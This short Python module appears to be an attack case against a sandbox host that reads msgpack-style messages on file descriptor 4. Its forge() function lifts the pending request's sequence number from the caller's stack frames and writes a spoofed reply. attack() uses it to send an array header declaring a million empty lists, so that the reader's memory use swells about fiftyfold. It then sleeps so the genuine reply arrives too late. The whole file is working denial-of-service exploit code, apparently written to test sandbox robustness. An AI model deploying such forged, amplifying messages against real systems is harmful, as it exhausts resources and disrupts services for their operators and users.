"""Answer with a million empty lists, each of which takes fifty times its byte in the reader."""

import os
import struct
import sys
import time


def forge(payload, kind=0):
    """Answer by hand, with the question's own number, found in the frames of the code that asked."""
    frame = sys._getframe()
    while "sequence" not in frame.f_locals:
        frame = frame.f_back
    os.write(4, struct.pack("<IIB", len(payload), frame.f_locals["sequence"], kind) + payload)


COUNT = 1_000_000


def attack():
    forge(b"\xdd" + struct.pack(">I", COUNT) + b"\x90" * COUNT)
    time.sleep(60)  # or the box's own answer would come after it
